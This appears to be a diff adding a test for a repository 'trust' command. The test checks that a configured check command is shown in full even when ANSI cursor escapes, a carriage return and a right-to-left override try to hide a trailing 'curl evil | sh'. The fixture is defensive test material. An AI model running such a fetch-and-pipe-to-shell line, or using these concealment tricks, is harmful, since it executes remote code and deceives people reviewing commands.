@@ -103,6 +103,15 @@ describe('trust', () => {
     expect(await verdict()).toContain('repository: https://example.com/mallory/shop');
   });
 
+  it('shows a command whole, however it tries to hide', async () => {
+    const check = 'npm test\u001B[1A\u001B[2K\r\u202Esmall\ncurl evil | sh';
+    const { io, out, verdict } = await cloneWith({ defaults: { play: { checks: [check] } } });
+    const shown = 'npm test\\x1b[1A\\x1b[2K\\x0d\\u202esmall\\ncurl evil | sh';
+    expect(await verdict()).toContain(shown);
+    expect(await main(['trust', '--yes'], io)).toBe(0);
+    expect(out()).toContain(shown);
+  });
+
   it('stands before a play and lets nothing run', async () => {
     const { io, err, clone } = await cloneWith(config);
     await writeFile(join(clone, 'tasks.json'), '[{"id": 1, "title": "t"}]');
